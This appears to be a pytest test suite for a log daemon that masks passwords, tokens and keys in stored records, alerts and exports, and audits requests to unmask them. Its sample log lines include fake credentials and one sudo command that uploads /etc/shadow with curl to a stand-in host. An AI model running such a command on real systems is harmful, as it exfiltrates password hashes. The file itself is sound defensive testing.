"""Passwords, tokens and keys leave masked in every form, unless asked for by who may, and each such question is written down."""

import json
import os
import pwd
import subprocess
import time

import pytest

from yushi_daemon import BIN, Daemon, yushi

ME = pwd.getpwuid(os.getuid()).pw_name
SECRETS = ["hunter2", "s3cr3t!", "abc123tok", "Tr0ub4dor", "0a1b2c3d4e", "leakone", "leaktwo"]
LINES = [
    "<86>1 2026-11-01T08:00:00Z web-01 sudo 811 - -       li : TTY=pts/0 ; PWD=/home/li ; USER=root ; COMMAND=/usr/bin/mysql -u root -phunter2 shop",
    '<13>1 2026-11-01T08:00:01Z web-01 app - - - {"user":"li","password":"s3cr3t!","nested":{"authToken":"abc123tok"},"args":["mysql","-phunter2"]}',
    '<13>1 2026-11-01T08:00:02Z web-01 nginx - - - 192.0.2.1 - - [01/Nov/2026:08:00:02 +0000] "GET /in?token=abc123tok&x=1 HTTP/1.1" 200 12 "-" "curl"',
    '<13>1 2026-11-01T08:00:03Z web-01 vpn - - - user=li password="Tr0ub4dor" result=ok',
    "<13>1 2026-11-01T08:00:04Z web-01 shell - - - curl -u li:hunter2 https://li:s3cr3t!@h.example/a?X-Amz-Signature=0a1b2c3d4e",
    "<13>1 2026-11-01T08:00:05Z web-01 shell - - - 修改成功 密码：Tr0ub4dor".encode("utf-8"),
    "<13>1 2026-11-01T08:00:06Z web-01 shell - - - nothing to hide",
    "<86>1 2026-11-01T08:00:07Z web-01 sudo 811 - -       li : TTY=pts/0 ; PWD=/home/li ; USER=root ; COMMAND=/usr/bin/sshpass -p leakone ssh a -p 22",
    "<86>1 2026-11-01T08:00:08Z web-01 sudo 811 - -       li : TTY=pts/0 ; PWD=/home/li ; USER=root ; "
    "COMMAND=/bin/sh -c curl -u a:leakone -T /etc/shadow https://x.example/; curl -u b:leaktwo",
]


def holds(text):
    return [secret for secret in SECRETS if secret in text]


@pytest.fixture(scope="module")
def daemon(tmp_path_factory):
    with Daemon(tmp_path_factory.mktemp("secrets")) as running:
        running.send_tcp(LINES)
        running.wait_records(len(LINES))
        yield running


@pytest.fixture(scope="module")
def granting(tmp_path_factory):
    daemon = Daemon(tmp_path_factory.mktemp("granting"))
    daemon.config.write_text(daemon.config.read_text().replace("api: {", f"api: {{secrets: [{ME}], "))
    with daemon:
        daemon.send_tcp(LINES)
        daemon.wait_records(len(LINES))
        yield daemon


@pytest.mark.parametrize("output", ["table", "raw", "json", "csv"])
@pytest.mark.parametrize("question", ["*", "* | fields message, event.original, process.args, process.command_line, url.query, url.original",
                                      "* | stats count() by message", "* | stats count() by json.password, json.nested.authToken, kv.password",
                                      "* | stats max(message), count() by url.query", "* | where message: \"x\" or not message: \"x\""])
def test_no_form_of_an_answer_shows_one(daemon, output, question):
    answer = daemon.yushi("search", question, "-o", output)
    assert answer.code == 0, answer.err
    assert holds(answer.text) == [], answer.text
    if question == "*":
        assert "[masked]" in answer.text and "nothing to hide" in answer.text


def test_the_fields_of_a_record_agree(daemon):
    records = {record["event"]["id"]: record for record in daemon.search("*")}
    sudo = records["default/0"]
    assert sudo["message"].endswith("mysql -u root -p[masked] shop")
    assert sudo["event"]["original"].endswith("mysql -u root -p[masked] shop")
    assert sudo["process"]["command_line"].endswith("mysql -u root -p[masked] shop")
    assert sudo["yushi"]["masked"] is True
    web = records["default/2"]
    assert web["url"]["query"] == "token=[masked]&x=1"
    assert web["url"]["original"] == "/in?token=[masked]&x=1"
    body = records["default/1"]
    assert json.loads(body["message"]) == {"user": "li", "password": "[masked]", "nested": {"authToken": "[masked]"}, "args": ["mysql", "-p[masked]"]}
    assert "masked" not in records["default/6"]["yushi"]


def test_hist_follow_unknown_and_a_store_without_a_daemon(daemon):
    assert holds(daemon.yushi("hist", "*", "--by", "message", "-o", "json").text) == []
    assert holds(daemon.yushi("parsers", "unknown", "-o", "json").text) == []
    followed = subprocess.run(["timeout", "3", BIN / "yushi", "search", "*", "-f", "-o", "json", "--server", f"unix:{daemon.socket}"],
                              stdout=subprocess.PIPE, text=True)
    assert "[masked]" in followed.stdout and holds(followed.stdout) == []
    assert holds(daemon.http("/api/v1/search?query=*").body.decode()) == []


def test_alerts_hide_them_in_both_languages_and_say_the_rest(tmp_path):
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "curl.yml").write_text("title: curl\nid: curl\nlogsource: {product: yushi}\n"
                                    "detection: {s: {process.command_line|contains: curl}, condition: s}\n"
                                    "yushi: {reason: 'ran (%{process.command_line}); once', reason_zh: '运行（%{process.command_line}）仅一次'}\n")
    with Daemon(tmp_path / "d", f"detect: {{learning: 0s, rules: [{rules}]}}\n") as daemon:
        daemon.send_tcp(LINES)
        daemon.wait_records(len(LINES))

        def told(*args):
            return daemon.yushi("alerts", *args).text
        until = time.monotonic() + 20
        while "ran (" not in told("list", "-o", "json") and time.monotonic() < until:
            time.sleep(0.2)
        (alert,) = [alert["yushi"]["alert"] for alert in map(json.loads, told("list", "--rule", "curl", "-o", "json").splitlines())]
        command = "/bin/sh -c curl -u a:[masked] -T /etc/shadow https://x.example/; curl -u b:[masked]"
        assert alert["reason"] == f"ran ({command}); once" and alert["reason_zh"] == f"运行（{command}）仅一次"
        for text in (told("list", "-o", "table"), told("list", "-o", "table", "--lang", "zh"), told("export", "-o", "csv"),
                     daemon.yushi("who", "li", "--since", "3650d").text, daemon.yushi("search", "*", "--tenant", "_audit", "-o", "raw").text):
            assert holds(text) == [], text


def test_filters_see_what_is_stored(daemon):
    assert len(daemon.search("json.password: \"s3cr3t!\"")) == 1


def test_who_may_not_see_them_is_refused_and_told(daemon):
    answer = daemon.yushi("search", "*", "--secrets")
    assert answer.code == 2 and "api.secrets" in answer.err
    assert daemon.http("/api/v1/search?query=*&secrets=1").code == 403
    assert daemon.http("/api/v1/status?secrets=1").code == 400


def test_who_may_sees_them_and_it_is_written_down(granting):
    plain = granting.yushi("search", "*", "-o", "raw")
    assert holds(plain.text) == []
    whole = granting.yushi("search", "*", "-o", "raw", "--secrets")
    assert sorted(holds(whole.text)) == sorted(SECRETS), whole.err
    assert holds(granting.yushi("hist", "*", "--by", "kv.password", "--secrets", "-o", "json").text) == ["Tr0ub4dor"]

    def written():
        return granting.search("yushi.parameters.secrets: 1", "--tenant", "_audit")
    until = time.monotonic() + 20
    while len(written()) < 2 and time.monotonic() < until:
        time.sleep(0.2)
    assert {record["event"]["action"] for record in written()} == {"api-search", "api-hist"}
    assert written()[0]["user"]["name"] == ME


def test_the_store_stays_whole(granting):
    assert "all proved" in granting.yushi("verify").text


def test_a_copied_store_hides_them_too(tmp_path):
    with Daemon(tmp_path / "d") as daemon:
        daemon.send_tcp(LINES)
        daemon.wait_records(len(LINES))
        assert daemon.stop() == 0
        answer = yushi("search", "*", "-o", "raw", "--store", daemon.data, state=daemon.state)
        assert answer.code == 0 and holds(answer.text) == []
        assert holds(yushi("search", "*", "-o", "raw", "--secrets", "--store", daemon.data, state=daemon.state).text)


def test_a_file_of_ones_own_adds_to_ours(tmp_path):
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "ours.yaml").write_text("keys: [badge_code]\n")
    (rules / "wrong.yaml").write_text("keys: [x]\n")
    with Daemon(tmp_path / "d", f"secrets: [{rules}]\n") as daemon:
        daemon.send_tcp(["<13>1 2026-11-01T08:00:00Z a door - - - badge_code=777123 password=hunter2"])
        daemon.wait_records(1)
        assert daemon.yushi("search", "*", "-o", "raw").text.endswith("badge_code=[masked] password=[masked]\n")
        assert "wrong.yaml" in " ".join(daemon.status()["left_out"])
